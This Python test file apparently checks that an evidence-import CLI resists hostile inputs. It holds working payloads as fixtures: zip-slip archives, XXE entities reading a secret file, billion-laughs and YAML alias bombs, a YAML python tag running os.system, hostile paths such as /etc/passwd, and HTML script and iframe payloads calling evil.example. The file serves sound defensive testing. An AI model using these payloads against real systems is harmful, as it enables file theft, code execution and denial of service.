    def static(ctx: Ctx) -> str | None:
        import tomllib

        deps = tomllib.loads((REPO / "pyproject.toml").read_text("utf-8"))["project"]["dependencies"]
        spec = next((d for d in deps if re.match(r"pypdf\b", d)), None)
        if spec is None:
            return "no pypdf requirement"
        low = re.search(r">=\s*(\d+)", spec)
        if not low or int(low[1]) < 6:
            return f"pyproject.toml allows {spec!r}, older than the 6.x limits"
        return None
    return Spec(static=static)


# ---------------------------------------------------------------------------------------------
# What holds


@case("holds", "zip-slip-dotdot", "an export zip whose member and attachment path is ../../zip-slip-PWNED.txt")
def _(ctx: Ctx) -> Spec:
    name = "../../zip-slip-PWNED.txt"
    text = evidence_yaml([record("Week", attachments=[{"file": name, "name": "x.txt"}])], HANOI)
    archive = write_zip(ctx.root / "sub" / "slip.zip", [member("evidence.yaml", text), member(name, "PWNED\n")])
    landing = [ctx.root / "zip-slip-PWNED.txt", ctx.root.parent / "zip-slip-PWNED.txt", ctx.ws / "zip-slip-PWNED.txt"]

    def check(ctx: Ctx, m: Any) -> str | None:
        return next((f"wrote {p}" for p in landing if p.exists()), None)

    return Spec(["import", str(archive)], check=check)


@case("holds", "zip-slip-absolute", "an export zip whose member and attachment path is absolute")
def _(ctx: Ctx) -> Spec:
    target = ctx.root / "abs-PWNED.txt"
    text = evidence_yaml([record("Week", attachments=[{"file": str(target), "name": "x.txt"}])], HANOI)
    archive = write_zip(ctx.root / "abs.zip", [member("evidence.yaml", text), member(str(target), "PWNED\n")])
    return Spec(["import", str(archive)], check=lambda ctx, m: f"wrote {target}" if target.exists() else None)


@case("holds", "docx-xxe", "a DOCX whose document.xml has an external entity naming a secret file; draft")
def _(ctx: Ctx) -> Spec:
    secret = ctx.file("secret.txt", SECRET)
    doctype = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    path = write_docx(ctx.root / "xxe.docx",
                      document_xml([], doctype, raw="<w:p><w:r><w:t>Week &xxe;</w:t></w:r></w:p>"))
    return Spec(["evidence", "draft", str(path), "--city", "Hanoi", "--dry-run", "--format", "json"],
                check=stdout_lacks("SECRET-MARKER", "the secret file's text"))


@case("holds", "docx-billion-laughs", "a DOCX with the billion laughs entity expansion; draft")
def _(ctx: Ctx) -> Spec:
    ents = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    path = write_docx(ctx.root / "lol.docx", document_xml([], f"<!DOCTYPE w:document [{ents}]>",
                                                          raw="<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>"))
    return Spec(["evidence", "draft", str(path), "--city", "Hanoi", "--dry-run"])


@case("holds", "xlsx-xxe", "an XLSX whose shared strings have an external entity naming a secret file; import")
def _(ctx: Ctx) -> Spec:
    secret = ctx.file("secret.txt", SECRET)
    shared = (f'{_XML}<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file://{secret}">]><sst xmlns="{_NS_SS}" count="1" '
              f'uniqueCount="1"><si><t>Week &xxe;</t></si></sst>')
    cells = ('<row r="1"><c r="A1" t="inlineStr"><is><t>kind</t></is></c><c r="B1" t="inlineStr"><is><t>title</t>'
             '</is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>event</t></is></c><c r="B2" t="s"><v>0</v>'
             '</c></row>')
    path = write_xlsx(ctx.root / "xxe.xlsx", sheet_xml([], cells=cells), shared)
    return Spec(["import", str(path), "--city", "Hanoi"], check=db_lacks("SECRET-MARKER", "the secret file's text"))


@case("holds", "xlsx-billion-laughs", "an XLSX sheet with the billion laughs entity expansion; import")
def _(ctx: Ctx) -> Spec:
    ents = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    cells = ('<row r="1"><c r="A1" t="inlineStr"><is><t>kind</t></is></c><c r="B1" t="inlineStr"><is><t>title</t>'
             '</is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>event</t></is></c><c r="B2" t="inlineStr">'
             '<is><t>&l9;</t></is></c></row>')
    path = write_xlsx(ctx.root / "lol.xlsx", sheet_xml([], doctype=f"<!DOCTYPE worksheet [{ents}]>", cells=cells))
    return Spec(["import", str(path), "--city", "Hanoi"])


@case("holds", "yaml-python-tag", "a YAML !!python/object/apply tag that would run a command; import")
def _(ctx: Ctx) -> Spec:
    marker = ctx.root / "tag-PWNED"
    text = f'format: readiness-evidence/1\ncity: !!python/object/apply:os.system ["touch {marker}"]\nrecords: []\n'
    return Spec(["import", str(ctx.file("tag.yaml", text))],
                check=lambda ctx, m: "the tag ran a command" if marker.exists() else refused(ctx, m))


_ALIASES = "a: &a [" + ",".join(["x"] * 10) + "]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 10) + "]\n" for i in range(8))


@case("holds", "yaml-alias-bomb", "a YAML alias bomb (10^9 nodes from 1 kB); import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(ctx.file("alias.yaml", "format: readiness-evidence/1\n" + _ALIASES + "records: []\n"))],
                check=refused)


@case("holds", "framework-alias-bomb", "the alias bomb as a framework file; criteria validate")
def _(ctx: Ctx) -> Spec:
    return Spec(["criteria", "validate", str(ctx.file("fw.yaml", "format: 1\nid: bomb\n" + _ALIASES))], check=refused)


def _path_csv(ctx: Ctx, paths: list[str]) -> Path:
    (ctx.root / "outside.txt").write_text("OUTSIDE secret\n")
    sheet = ctx.root / "sheet"
    sheet.mkdir(exist_ok=True)
    (sheet / "sub").mkdir(exist_ok=True)
    (sheet / "folder").mkdir(exist_ok=True)
    if not (sheet / "link.txt").exists():
        (sheet / "link.txt").symlink_to(ctx.root / "outside.txt")
        os.mkfifo(sheet / "fifo")
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["kind", "title", "files"])
    for i, p in enumerate(paths):
        w.writerow(["event", f"Row {i}", p])
    return ctx.file("sheet/rows.csv", buf.getvalue())


def _nothing_outside(ctx: Ctx, m: Any) -> str | None:
    if m.exit == 0:
        return "accepted (exit 0)"
    outside = sha256(b"OUTSIDE secret\n")
    if (ctx.ws / "files" / "objects" / outside[:2] / outside).exists():
        return "a file outside the spreadsheet's folder reached the store"
    return None


@case("holds", "csv-path-dotdot", "a spreadsheet files cell ../outside.txt (the file exists)")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(_path_csv(ctx, ["../outside.txt"])), "--city", "Hanoi"], check=_nothing_outside)


@case("holds", "csv-path-absolute", "a spreadsheet files cell /etc/passwd")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(_path_csv(ctx, ["/etc/passwd"])), "--city", "Hanoi"], check=_nothing_outside)


@case("holds", "csv-path-symlink", "a spreadsheet files cell naming a symlink beside it that points outside")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(_path_csv(ctx, ["link.txt"])), "--city", "Hanoi"], check=_nothing_outside)


HOSTILE_PATHS = ["../outside.txt", "/etc/passwd", "~/outside.txt", "C:\\Windows\\win.ini", "\\\\server\\share\\x.pdf",
                 "sub/../../outside.txt", "link.txt", "fifo", "folder", "file:///etc/passwd", "..\\outside.txt"]


@case("holds", "csv-11-hostile-paths", "11 kinds of hostile path in one spreadsheet's files column: every row refused")
def _(ctx: Ctx) -> Spec:
    def check(ctx: Ctx, m: Any) -> str | None:
        problem = _nothing_outside(ctx, m)
        rows = set(re.findall(r":(\d+): files", m.stderr))
        if not problem and len(rows) < len(HOSTILE_PATHS):
            problem = f"only {len(rows)} of {len(HOSTILE_PATHS)} rows reported"
        return problem
    return Spec(["import", str(_path_csv(ctx, HOSTILE_PATHS)), "--city", "Hanoi"], check=check)


@case("holds", "attach-symlink", "evidence attach of a symlink to a file outside")
def _(ctx: Ctx) -> Spec:
    (ctx.root / "link.pdf").symlink_to(ctx.file("secret.txt", SECRET))
    return Spec(["evidence", "attach", "HN-0001", str(ctx.root / "link.pdf")], check=refused)


@case("holds", "attach-dev-zero", "evidence attach /dev/zero (a device that never ends)")
def _(ctx: Ctx) -> Spec:
    return Spec(["evidence", "attach", "HN-0001", "/dev/zero"], check=refused)


@case("holds", "attach-fifo", "evidence attach of a FIFO nobody writes to")
def _(ctx: Ctx) -> Spec:
    os.mkfifo(ctx.root / "pipe.pdf")
    return Spec(["evidence", "attach", "HN-0001", str(ctx.root / "pipe.pdf")], check=refused)


@case("holds", "attach-size-limit", "--max-size 1000: 1,001 bytes refused, then exactly 1,000 accepted")
def _(ctx: Ctx) -> Spec:
    over, exact = ctx.file("over.bin", b"o" * 1001), ctx.file("exact.bin", b"e" * 1000)

    def check(ctx: Ctx, m: Any) -> str | None:
        if m.exit != 1:
            return "1,001 bytes accepted over a 1,000-byte limit"
        return None if ctx.followed[0].exit == 0 else "exactly 1,000 bytes refused"

    return Spec(["evidence", "attach", "HN-0001", str(over), "--max-size", "1000"],
                followups=[["evidence", "attach", "HN-0001", str(exact), "--max-size", "1000"]], check=check)


@case("holds", "dossier-html-payloads", "script, iframe, img file:// and CSS @import in record texts; dossier --format "
      "html must escape them all")
def _(ctx: Ctx) -> Spec:
    rec = record("<script>alert('PWNED')</script><img src=\"file:///etc/passwd\">",
                 summary={"en": "<style>@import url(http://evil.example/x.css)</style><iframe src=\"http://evil.example\">"},
                 organiser={"en": "<a href=\"javascript:alert(1)\">click</a>"})
    ctx.rd("import", str(ctx.file("payload.yaml", evidence_yaml([rec], HANOI))))
    out = ctx.root / "d.html"

    def check(ctx: Ctx, m: Any) -> str | None:
        if m.exit != 0:
            return None
        html = out.read_text("utf-8")
        if "&lt;script&gt;" not in html:
            return "harness: the payload is not in the dossier"
        bad = [p for p in ("<script>alert", "<img src=\"file:", "<iframe", "@import url(http://evil",
                           "href=\"javascript:")
               if p in html]
        return f"unescaped in the dossier: {', '.join(bad)}" if bad else None

    return Spec(["dossier", "--city", "Hanoi", "--format", "html", "-o", str(out)], check=check)


@case("holds", "zip-bad-crc", "an export zip whose second file's bytes fail the zip CRC; import (and undo)")
def _(ctx: Ctx) -> Spec:
    a, b = b"first file bytes\n" * 10, b"second file bytes\n" * 10
    bad = member(f"files/{sha256(b)}", b, method=0)
    bad.crc ^= 0xFFFF
    text = evidence_yaml([record("A", attachments=[{"file": f"files/{sha256(a)}", "name": "a.txt"}]),
                          record("B", attachments=[{"file": f"files/{sha256(b)}", "name": "b.txt"}])], HANOI)
    archive = write_zip(ctx.root / "crc.zip", [member("evidence.yaml", text), member(f"files/{sha256(a)}", a), bad])
    return Spec(["import", str(archive)], check=refused)


# ---------------------------------------------------------------------------------------------
# Controls: the builders make files that readiness reads


@case("control", "benign-xlsx", "a benign XLSX from the same builder imports", template="hanoi")
def _(ctx: Ctx) -> Spec:
    path = write_xlsx(ctx.root / "ok.xlsx",
                      sheet_xml([["kind", "title", "start"], ["event", "CONTROL-XLSX", "2025-10-01"]]))
    return Spec(["import", str(path), "--city", "Hanoi"],
                check=lambda ctx, m: None if m.exit == 0 else "the control did not import")


@case("control", "benign-zip", "a benign export zip from the hand-made zip writer imports")
def _(ctx: Ctx) -> Spec:
    data = b"CONTROL bytes\n"
    text = evidence_yaml([record("CONTROL-ZIP", attachments=[{"file": f"files/{sha256(data)}", "name": "c.txt",
                                                               "sha256": sha256(data)}])])
    archive = write_zip(ctx.root / "ok.zip",
                        [member("evidence.yaml", text), bomb(f"files/{sha256(data)}", data, b"", 0, b"")])
    return Spec(["import", str(archive)], check=lambda ctx, m: None if m.exit == 0 else "the control did not import")


@case("control", "benign-docx", "a benign DOCX from the same builder drafts with its title")
def _(ctx: Ctx) -> Spec:
    path = write_docx(ctx.root / "ok.docx", document_xml(["Lifelong Learning Week, 1-7 October 2025"]),
                      title="CONTROL-DOCX")
    return Spec(["evidence", "draft", str(path), "--city", "Hanoi", "--dry-run", "--format", "json"],
                check=lambda ctx, m: None if b"CONTROL-DOCX" in m.stdout else "the control's title was not read")


@case("control", "benign-pdf", "a benign PDF from the same builder drafts with its text")
def _(ctx: Ctx) -> Spec:
    path = write_pdf(ctx.root / "ok.pdf", ["CONTROL-PDF Lifelong Learning Week", "1-7 October 2025"])
    return Spec(["evidence", "draft", str(path), "--city", "Hanoi", "--dry-run", "--format", "json"],
                check=lambda ctx, m: None if b"CONTROL-PDF" in m.stdout else "the control's text was not read")


_ = (dt, struct)  # used above; keep linters quiet about the imports kept for builders
